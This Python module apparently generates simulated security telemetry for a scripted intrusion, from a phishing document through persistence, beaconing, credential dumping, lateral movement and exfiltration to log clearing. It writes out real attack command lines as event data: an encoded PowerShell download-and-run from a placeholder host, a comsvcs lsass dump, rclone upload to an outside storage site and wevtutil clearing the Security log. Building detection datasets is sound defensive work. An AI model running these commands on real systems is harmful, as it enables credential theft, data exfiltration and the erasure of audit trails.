"""A mail opens the door, a quiet beacon keeps it open; then the file server is emptied.

Phishing, foothold, persistence, beacon, discovery, credentials, lateral movement, staging, exfiltration, covered
tracks.
"""

from __future__ import annotations

import base64
from typing import Final

from mingjian.sample.campaigns.script import Script
from mingjian.sample.deeds import linux, network, windows
from mingjian.sample.moments import MINUTE, SECOND
from mingjian.sample.programs import PROGRAMS, Program
from mingjian.sample.scene import Process, Scene, Session
from mingjian.sample.world import Host, Person, Site
from mingjian.sample.writers.flows import Request, Tls

CONTROL: Final = Site("cdn-sync.example.net", "203.0.113.222", is_plain=True)
DROP: Final = Site("files-vault.example.com", "198.51.100.223", is_plain=False)
BEACON_US: Final = 20 * MINUTE
_AGENT: Final = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)"
_IMPLANT: Final = Program(
    "C:\\Users\\{login}\\AppData\\Roaming\\SyncHost\\synchost.exe", "1.0.0.1", original="synchost.exe"
)
_SERVICE: Final = Program("C:\\Windows\\svcupd64.exe", "1.0.0.1", original="svcupd64.exe")
_DUMP_TRACE: Final = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
    "C:\\Windows\\System32\\dbgcore.DLL+6b3d|C:\\Windows\\System32\\comsvcs.dll+2cd1b"
)


class _Cast:
    """Who it happens to. Processes are kept from step to step within a day; on the next day they are new."""

    def __init__(self, script: Script) -> None:
        people = {person.login: person for person in script.organisation.people}
        self.victim: Person = people[script.victims()[0]]
        self.admin: Person = next(person for person in script.organisation.people if person.is_admin)
        self.host: Host = script.organisation.host(self.victim.workstation)
        self.files: Host = script.organisation.first("files")

    def session(self, scene: Scene) -> Session:
        """The victim's session: the one at the desk, if there is one."""
        desk = scene.desks.get(self.victim.login)
        return desk.session if desk else scene.session_of(self.victim)

    def implant(self, scene: Scene) -> Process:
        """The implant, as it runs today."""
        key = f"{self.host.name}/implant"
        if key not in scene.services:
            image = windows.image_of(_IMPLANT, self.victim.login)
            session = self.session(scene)
            scene.services[key] = Process(
                scene.chance.between(3000, 9000), scene.guid(self.host), image, image, session.user
            )
        return scene.services[key]

    def remote(self, scene: Scene) -> Process:
        """The implant on the file server."""
        key = f"{self.files.name}/implant"
        if key not in scene.services:
            image = _SERVICE.image
            scene.services[key] = Process(
                scene.chance.between(3000, 9000), scene.guid(self.files), image, image, "NT AUTHORITY\\SYSTEM"
            )
        return scene.services[key]


def write(script: Script) -> None:
    """Write the campaign."""
    cast = _Cast(script)
    _enter(script, cast)
    _stay(script, cast)
    _look_around(script, cast)
    _move(script, cast)
    _take(script, cast)
    _hide(script, cast)


def _enter(script: Script, cast: _Cast) -> None:
    victim, host = cast.victim, cast.host

    def phish(scene: Scene, time_us: int, mark: int) -> None:
        sender = "accounts@billing-portal.example.net"
        linux.mail(
            scene, time_us, sender, victim.email, "mx4.billing-portal.example.net", "203.0.113.221", 184_220, mark
        )

    step = script.step("phishing", "T1566.001", "A mail with a document arrives", "收到一封带附件的邮件")
    script.plant(
        step, script.at(0.0, 9.6), script.organisation.first("mail"), victim.email, phish, sender="203.0.113.221"
    )

    def open_document(scene: Scene, time_us: int, mark: int) -> None:
        session = cast.session(scene)
        desk = scene.desks.get(victim.login)
        mail = desk.mail if desk else windows.service(scene, host, "explorer")
        folder = (
            f"C:\\Users\\{victim.login}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3Q7ZV1B\\"
        )
        word = windows.start(
            scene, time_us, host, session, mail, PROGRAMS["word"],
            f'"{PROGRAMS["word"].image}" /n "{folder}Invoice 8841.docm" /o ""', mark, folder=folder,
        )  # fmt: skip
        script_text = f"IEX (New-Object Net.WebClient).DownloadString('http://{CONTROL.name}/update/check')"
        encoded = base64.b64encode(script_text.encode("utf-16-le")).decode("ascii")
        shell = windows.start(
            scene, time_us + 21 * SECOND, host, session, word, PROGRAMS["powershell"],
            f"powershell.exe -NoP -NonI -W Hidden -Enc {encoded}", mark,
        )  # fmt: skip
        windows.ran_script(scene, time_us + 23 * SECOND, host, script_text, mark)
        request = Request("GET", CONTROL.name, "/update/check", _AGENT, 200, 0, 3_810, "text/plain")
        network.fetch(scene, time_us + 24 * SECOND, host, CONTROL, request, mark, user=victim.login, process=shell)
        scene.services[f"{host.name}/stager"] = shell

    step = script.step("execution", "T1059.001", "The document starts PowerShell with a hidden script",
                       "文档启动 PowerShell 并运行隐藏脚本")  # fmt: skip
    script.plant(step, script.at(0.0, 10.1), host, victim.login, open_document, domain=CONTROL.name, ip=CONTROL.address)

    def download(scene: Scene, time_us: int, mark: int) -> None:
        shell = scene.services.get(f"{host.name}/stager") or windows.service(scene, host, "explorer")
        request = Request("GET", CONTROL.name, "/update/synchost.exe", _AGENT, 200, 0, 418_304, "application/x-dosexec")
        network.fetch(scene, time_us, host, CONTROL, request, mark, user=victim.login, process=shell)
        image = windows.image_of(_IMPLANT, victim.login)
        windows.wrote(scene, time_us + 2 * SECOND, host, shell, image, mark)
        started = windows.start(
            scene, time_us + 4 * SECOND, host, cast.session(scene), shell, _IMPLANT, image, mark,
            folder=f"C:\\Users\\{victim.login}\\",
        )  # fmt: skip
        scene.services[f"{host.name}/implant"] = started

    step = script.step("download", "T1105", "A program is fetched and put into the profile", "下载程序并放入用户目录")
    image = windows.image_of(_IMPLANT, victim.login)
    script.plant(step, script.at(0.0, 10.2), host, victim.login, download, file=image, domain=CONTROL.name)


def _stay(script: Script, cast: _Cast) -> None:
    victim, host = cast.victim, cast.host

    def persist(scene: Scene, time_us: int, mark: int) -> None:
        implant, session = cast.implant(scene), cast.session(scene)
        image = windows.image_of(_IMPLANT, victim.login)
        key = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        tool = windows.start(
            scene, time_us, host, session, implant, PROGRAMS["reg"],
            f'reg.exe add HKCU\\{key} /v SyncHost /t REG_SZ /d "{image}" /f', mark,
        )  # fmt: skip
        windows.set_value(scene, time_us + 90_000, host, tool, f"HKU\\{victim.sid}\\{key}\\SyncHost", image, mark)

    step = script.step("persistence", "T1547.001", "It will start again with every logon", "设置为随登录自动启动")
    script.plant(step, script.at(0.0, 10.5), host, victim.login, persist, file="synchost.exe")

    def schedule(scene: Scene, time_us: int, mark: int) -> None:
        implant, session = cast.implant(scene), cast.session(scene)
        image = windows.image_of(_IMPLANT, victim.login)
        windows.start(
            scene, time_us, host, session, implant, PROGRAMS["schtasks"],
            f'schtasks.exe /create /sc minute /mo 60 /tn "SyncHost Update" /tr "{image}" /f', mark,
        )  # fmt: skip
        windows.task_created(scene, time_us + 200_000, host, session, "\\SyncHost Update", image, mark)

    step = script.step("task", "T1053.005", "A scheduled task starts it every hour", "计划任务每小时启动一次")
    script.plant(step, script.at(0.0, 10.6), host, victim.login, schedule, file="synchost.exe")

    def beacon(scene: Scene, time_us: int, mark: int) -> None:
        request = Request(
            "POST",
            CONTROL.name,
            "/update/report",
            _AGENT,
            200,
            scene.chance.between(180, 420),
            scene.chance.between(90, 140),
            "text/plain",
        )
        network.fetch(scene, time_us, host, CONTROL, request, mark, user=victim.login, process=cast.implant(scene))

    step = script.step("beacon", "T1071.001", "It reports to its master three times an hour", "每小时三次回连控制端")
    times_us = script.every(script.at(0.0, 10.7), BEACON_US, 4 * MINUTE)
    script.plant_often(step, times_us, host, victim.login, beacon, domain=CONTROL.name, ip=CONTROL.address)


def _look_around(script: Script, cast: _Cast) -> None:
    victim, host = cast.victim, cast.host
    commands = (
        ("whoami", "whoami.exe /all"),
        ("net", 'net.exe group "Domain Admins" /domain'),
        ("nltest", "nltest.exe /dclist:"),
        ("systeminfo", "systeminfo.exe"),
        ("net", "net.exe view /all /domain"),
    )

    def discover(scene: Scene, time_us: int, mark: int) -> None:
        session = cast.session(scene)
        console = windows.start(
            scene, time_us, host, session, cast.implant(scene), PROGRAMS["cmd"], "cmd.exe /c start /b", mark
        )
        for place, (name, command) in enumerate(commands, 1):
            moment_us = time_us + place * 14 * SECOND
            process = windows.start(scene, moment_us, host, session, console, PROGRAMS[name], command, mark)
            if name == "net":
                windows.start(
                    scene,
                    moment_us + 60_000,
                    host,
                    session,
                    process,
                    PROGRAMS["net1"],
                    command.replace("net.exe", "net1"),
                    mark,
                )

    step = script.step("discovery", "T1069.002", "It asks who is who in the domain", "查询域内的人员与主机")
    script.plant(step, script.at(0.34, 11.2), host, victim.login, discover)

    def dump(scene: Scene, time_us: int, mark: int) -> None:
        session = cast.session(scene)._replace(integrity="High")
        path = "C:\\Windows\\Temp\\d81.tmp"
        lsass = windows.service(scene, host, "lsass")
        tool = windows.start(
            scene, time_us, host, session, cast.implant(scene), PROGRAMS["rundll32"],
            f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {path} full", mark,
        )  # fmt: skip
        windows.opened_process(scene, time_us + 300_000, host, tool, lsass, "0x1FFFFF", _DUMP_TRACE, mark)
        windows.wrote(scene, time_us + 400_000, host, tool, path, mark)

    step = script.step(
        "credentials", "T1003.001", "It writes the memory of lsass to a file", "转储 lsass 内存以获取凭据"
    )
    script.plant(step, script.at(0.34, 11.6), host, victim.login, dump, file="d81.tmp")


def _move(script: Script, cast: _Cast) -> None:
    admin, host, files = cast.admin, cast.host, cast.files

    def move(scene: Scene, time_us: int, mark: int) -> None:
        session = scene.session_of(admin, elevated=True)
        network.open_share(scene, time_us, host, files, session, "ADMIN$", (("svcupd64.exe", 418_304, True),), mark)
        windows.wrote(
            scene,
            time_us + 900_000,
            files,
            Process(4, scene.guid(files), "System", "System", session.user),
            _SERVICE.image,
            mark,
        )
        windows.service_installed(scene, time_us + 2 * SECOND, files, "svcupd64", "%SystemRoot%\\svcupd64.exe", mark)
        started = windows.start(
            scene, time_us + 3 * SECOND, files, scene.machine_session(files), windows.service(scene, files), _SERVICE,
            _SERVICE.image, mark,
        )  # fmt: skip
        scene.services[f"{files.name}/implant"] = started

    step = script.step("lateral", "T1569.002", "It installs itself on the file server as a service",
                       "以服务形式装入文件服务器")  # fmt: skip
    script.plant(step, script.at(0.67, 13.5), files, admin.login, move, file=_SERVICE.image, source=host.address)


def _take(script: Script, cast: _Cast) -> None:
    files = cast.files
    account = "SYSTEM"

    def stage(scene: Scene, time_us: int, mark: int) -> None:
        session = scene.machine_session(files)
        tool = windows.start(
            scene,
            time_us,
            files,
            session,
            cast.remote(scene),
            PROGRAMS["sevenzip"],
            "C:\\ProgramData\\7za.exe a -t7z -mhe=on -pW1nterRoad C:\\ProgramData\\cache01.7z D:\\Shares\\archive\\*",
            mark,
            folder="C:\\ProgramData\\",
        )
        windows.wrote(scene, time_us + 3 * SECOND, files, tool, "C:\\ProgramData\\cache01.7z", mark)
        windows.end(scene, time_us + 9 * MINUTE, files, tool, mark)

    step = script.step("staging", "T1560.001", "The archive share is packed with a password", "将归档共享加密打包")
    script.plant(step, script.at(0.67, 19.0), files, account, stage, file="cache01.7z")

    def send(scene: Scene, time_us: int, mark: int) -> None:
        session = scene.machine_session(files)
        tool = windows.start(
            scene,
            time_us,
            files,
            session,
            cast.remote(scene),
            PROGRAMS["rclone"],
            f"{PROGRAMS['rclone'].image} copy C:\\ProgramData\\cache01.7z vault:in --no-check-certificate",
            mark,
            folder="C:\\ProgramData\\",
        )
        network.lookup(scene, time_us + SECOND, files, DROP.name, DROP.address, mark)
        windows.asked(scene, time_us + SECOND, files, tool, DROP.name, DROP.address, mark)
        flow, uid = network.connect(
            scene,
            time_us + 2 * SECOND,
            files.address,
            DROP.address,
            443,
            "ssl",
            14 * MINUTE,
            2_340_117_551,
            1_204_000,
            mark,
        )
        scene.sensor.tls(time_us + 2 * SECOND, flow, uid, Tls(DROP.name, network.fingerprint(DROP.name)), mark)
        windows.connected(
            scene, time_us + 2 * SECOND, files, tool, flow.source_port, DROP.address, 443, DROP.name, mark
        )
        if scene.proxy is not None:
            scene.proxy.tunnel(
                time_us + 2 * SECOND, files.address, "-", DROP.name, DROP.address, 14 * MINUTE, 1_204_000, mark
            )

    step = script.step(
        "exfiltration", "T1567.002", "Two gigabytes leave for a storage service", "两千兆字节数据传往网盘"
    )
    script.plant(step, script.at(0.67, 21.5), files, account, send, domain=DROP.name, ip=DROP.address)


def _hide(script: Script, cast: _Cast) -> None:
    files, account = cast.files, "SYSTEM"

    def cover(scene: Scene, time_us: int, mark: int) -> None:
        session = scene.machine_session(files)
        windows.start(
            scene, time_us, files, session, cast.remote(scene), PROGRAMS["wevtutil"], "wevtutil.exe cl Security", mark
        )
        windows.log_cleared(scene, time_us + 200_000, files, session, mark)

    step = script.step("tracks", "T1070.001", "The security log is cleared", "清除安全日志")
    script.plant(step, script.at(0.67, 22.2), files, account, cover)
